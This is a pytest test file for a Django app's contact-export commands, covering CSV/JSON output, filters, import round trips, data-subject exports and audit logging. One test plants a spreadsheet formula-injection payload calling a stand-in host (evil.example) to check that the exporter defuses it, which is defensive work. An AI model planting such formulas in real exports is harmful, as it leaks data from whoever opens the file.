"""export_contacts and export_contact_data (CONTRACT.md "Contacts: export and bounces"): the
Contact CSV plus status, formula cells made inert, JSON, a round trip through import_contacts,
a data-subject export that covers every table referring to a contact, and an audit entry for
every export."""

from __future__ import annotations

import csv
import datetime
import io
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from contacts.export import CSV_COLUMNS, related_accessors, safe_cell
from contacts.models import Contact, DataAccessEvent, Suppression
from contacts.services import contact_suppress, contact_unsubscribe
from distribution.models import Delivery, Distribution
from tests.factories import ContactFactory, MediaListFactory, StatementFactory

pytestmark = pytest.mark.django_db

BURMESE_NAME = "ဒေါ်အောင်ဆန်းစုကြည်"
BURMESE_OUTLET = "မဇ္ဈိမ သတင်းဌာန"


@pytest.fixture
def press():
    press = MediaListFactory(slug="press", name="Regional press", embargo_trusted=True)
    wire = MediaListFactory(slug="wire", name="Wire services")
    su = ContactFactory(
        email="su@example.org",
        name=BURMESE_NAME,
        outlet=BURMESE_OUTLET,
        beat="politics",
        country="MM",
        languages=["my", "en"],
        embargo_trusted=True,
        consent_basis="consent",
        consent_date=datetime.date(2025, 1, 31),
    )
    ko = ContactFactory(
        email="ko@example.org",
        name="Ko Ko",
        outlet="Frontier",
        beat="economy",
        country="TH",
        languages=["en"],
        consent_basis="legitimate_interest",
        consent_date=datetime.date(2024, 6, 1),
    )
    other = ContactFactory(
        email="other@example.org",
        name="Elsewhere",
        languages=["en"],
        consent_basis="contract",
        consent_date=datetime.date(2023, 2, 3),
    )
    su.lists.add(press, wire)
    ko.lists.add(press)
    other.lists.add(wire)
    return {"press": press, "wire": wire, "su": su, "ko": ko, "other": other}


def export(tmp_path, *args: str) -> tuple[str, str]:
    path = tmp_path / "out.csv"
    err = StringIO()
    call_command("export_contacts", str(path), *args, stderr=err, stdout=StringIO())
    with path.open(encoding="utf-8", newline="") as handle:  # a CR inside a cell stays one
        return handle.read(), err.getvalue()


def rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8 (Burmese intact)
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_has_the_import_columns_plus_status_for_one_list(tmp_path, press):
    contact_unsubscribe(contact_id=press["ko"].pk)
    text, report = export(tmp_path, "--list", "press")
    assert text.removeprefix("\ufeff").splitlines()[0] == ",".join(CSV_COLUMNS)
    assert CSV_COLUMNS[-1] == "status"
    got = {row["email"]: row for row in rows(text)}
    assert set(got) == {"su@example.org", "ko@example.org"}
    assert got["su@example.org"] == {
        "email": "su@example.org",
        "name": BURMESE_NAME,
        "outlet": BURMESE_OUTLET,
        "beat": "politics",
        "country": "MM",
        "languages": "my;en",
        "lists": "press;wire",
        "embargo_trusted": "yes",
        "consent_basis": "consent",
        "consent_date": "2025-01-31",
        "status": "active",
    }
    assert got["ko@example.org"]["status"] == "unsubscribed"
    assert got["ko@example.org"]["embargo_trusted"] == "no"
    assert "2 contacts written" in report


def test_filters_and_erased_contacts(tmp_path, press):
    text, _ = export(tmp_path, "--country", "mm")
    assert [r["email"] for r in rows(text)] == ["su@example.org"]
    text, _ = export(tmp_path, "--language", "my")
    assert [r["email"] for r in rows(text)] == ["su@example.org"]
    text, _ = export(tmp_path, "--beat", "ECONOMY", "--outlet", "frontier")
    assert [r["email"] for r in rows(text)] == ["ko@example.org"]
    contact_suppress(email="ko@example.org", reason=Suppression.Reason.BOUNCED)
    text, _ = export(tmp_path, "--status", "bounced")
    assert [r["email"] for r in rows(text)] == ["ko@example.org"]
    Contact.objects.filter(pk=press["other"].pk).update(status=Contact.Status.ERASED)
    text, _ = export(tmp_path)
    assert {r["email"] for r in rows(text)} == {"su@example.org", "ko@example.org"}


@pytest.mark.parametrize(
    "bad",
    [("--list", "nowhere"), ("--country", "Myanmar"), ("--language", "fr"), ("--status", "x")],
)
def test_bad_options_are_a_clear_error_and_write_nothing(tmp_path, press, bad):
    with pytest.raises(CommandError):
        export(tmp_path, *bad)
    assert not (tmp_path / "out.csv").exists()
    assert not DataAccessEvent.objects.exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_get_a_leading_apostrophe(tmp_path, press, start):
    payload = f'{start}HYPERLINK("http://evil.example/"&A1)'
    Contact.objects.filter(pk=press["ko"].pk).update(name=payload, outlet=payload, beat=payload)
    text, _ = export(tmp_path, "--list", "press")
    ko = next(r for r in rows(text) if r["email"] == "ko@example.org")
    for column in ("name", "outlet", "beat"):
        assert ko[column] == "'" + payload
    assert safe_cell("plain =1") == "plain =1"  # only the first character counts


def test_json_export(tmp_path, press):
    path = tmp_path / "out.json"
    call_command(
        "export_contacts", str(path), "--format", "json", "--list", "wire", stderr=StringIO()
    )
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["filters"] == {"lists": ["wire"]}
    by_email = {c["email"]: c for c in data["contacts"]}
    assert set(by_email) == {"su@example.org", "other@example.org"}
    su = by_email["su@example.org"]
    assert su["name"] == BURMESE_NAME
    assert su["languages"] == ["my", "en"] and su["lists"] == ["press", "wire"]
    assert su["embargo_trusted"] is True and su["status"] == "active"
    assert su["consent_date"] == "2025-01-31"
    assert set(su) == set(CSV_COLUMNS)


def test_json_export_of_nothing_is_valid(tmp_path):
    path = tmp_path / "out.json"
    call_command("export_contacts", str(path), "--format", "json", stderr=StringIO())
    assert json.loads(path.read_text(encoding="utf-8"))["contacts"] == []


def test_round_trip_through_import_contacts(tmp_path, press):
    """What export writes, import_contacts reads back: every field, Burmese included."""
    before = {c.email: _fields(c) for c in Contact.objects.all()}
    text, _ = export(tmp_path)
    path = tmp_path / "out.csv"
    Contact.objects.all().delete()
    report = StringIO()
    call_command("import_contacts", str(path), stdout=report)
    assert "0 rejected" in report.getvalue(), report.getvalue()
    after = {c.email: _fields(c) for c in Contact.objects.all()}
    assert after == before
    assert after["su@example.org"]["name"] == BURMESE_NAME


def _fields(contact: Contact) -> dict:
    return {
        "name": contact.name,
        "outlet": contact.outlet,
        "beat": contact.beat,
        "country": contact.country,
        "languages": contact.languages,
        "lists": sorted(m.slug for m in contact.lists.all()),
        "embargo_trusted": contact.embargo_trusted,
        "consent_basis": contact.consent_basis,
        "consent_date": contact.consent_date,
        "status": contact.status,
    }


def test_every_export_is_recorded_as_done_at_the_console(tmp_path, press):
    export(tmp_path, "--list", "press")
    call_command("export_contacts", str(tmp_path / "o.json"), "--format", "json", stderr=StringIO())
    call_command("export_contact_data", "SU@example.org", stdout=StringIO())
    events = list(DataAccessEvent.objects.order_by("pk"))
    assert [(e.kind, e.format, e.via, e.actor_name) for e in events] == [
        ("contacts", "csv", "console", "console"),
        ("contacts", "json", "console", "console"),
        ("subject", "json", "console", "console"),
    ]
    assert events[0].scope == "lists press" and events[0].filters == {"lists": ["press"]}
    assert events[0].row_count == 2 and events[1].row_count == 3 and events[2].row_count == 1
    assert all(e.completed_at for e in events)
    assert events[2].contact_id == press["su"].pk
    # The log names the contact by id, never by address.
    assert "su@example.org" not in json.dumps(
        [e.scope for e in events] + [e.filters for e in events]
    )


def test_to_stdout(press):
    out = StringIO()
    call_command("export_contacts", "-", "--list", "press", stdout=out)
    assert len(rows(out.getvalue())) == 2


# --- The data-subject export ----------------------------------------------------------------


def _subject(email: str) -> dict:
    out = StringIO()
    call_command("export_contact_data", email, stdout=out)
    return json.loads(out.getvalue())


def test_data_subject_export_covers_every_table_that_refers_to_a_contact(press, make_staff):
    """Generated from the model graph: a table added later that refers to contacts shows up
    here without anyone listing it."""
    su = press["su"]
    distribution = Distribution.objects.create(
        statement=StatementFactory(slug="sent-release"),
        send_at=timezone.now(),
        state=Distribution.State.DONE,
    )
    Delivery.objects.create(
        distribution=distribution,
        contact=su,
        address=su.email,
        languages=su.languages,
        variant="my+en",
        state=Delivery.State.BOUNCED,
        last_error="550 5.1.1 <su@example.org>: no such user",
    )
    contact_suppress(email=su.email, reason=Suppression.Reason.BOUNCED)
    data = _subject(su.email)
    labels = {label for _accessor, label in related_accessors()}
    assert {"contacts.Membership", "distribution.Delivery", "contacts.DataAccessEvent"} <= labels
    assert set(data["related"]) == labels
    for rel in Contact._meta.related_objects:
        held = rel.related_model._default_manager.filter(**{rel.field.name: su})
        exported = data["related"][rel.related_model._meta.label]
        assert sorted(r["id"] for r in exported) == sorted(held.values_list("pk", flat=True))
    for label in ("contacts.Membership", "distribution.Delivery", "contacts.DataAccessEvent"):
        assert data["related"][label], label
    # Every column of the contact, as stored.
    assert {f.attname for f in Contact._meta.concrete_fields} == set(data["contact"])
    assert data["contact"]["name"] == BURMESE_NAME
    assert [m["slug"] for m in data["lists"]] == ["press", "wire"]
    assert data["consent"] == {"basis": "consent", "date": "2025-01-31"}
    assert data["suppression"]["suppressed"] and data["suppression"]["reason"] == "bounced"
    (delivery,) = data["deliveries"]
    assert delivery["state"] == "bounced"
    assert delivery["error"] == "550 5.1.1 <su@example.org>: no such user"
    assert delivery["statement"] == "sent-release" and delivery["kind"] == "release"
    kinds = [e["event"] for e in data["events"]]
    assert "bounced" in kinds and all(e["at"] for e in data["events"])


def test_data_subject_export_of_an_unknown_address(press):
    with pytest.raises(CommandError, match="No contact"):
        _subject("nobody@example.org")
    assert not DataAccessEvent.objects.exists()
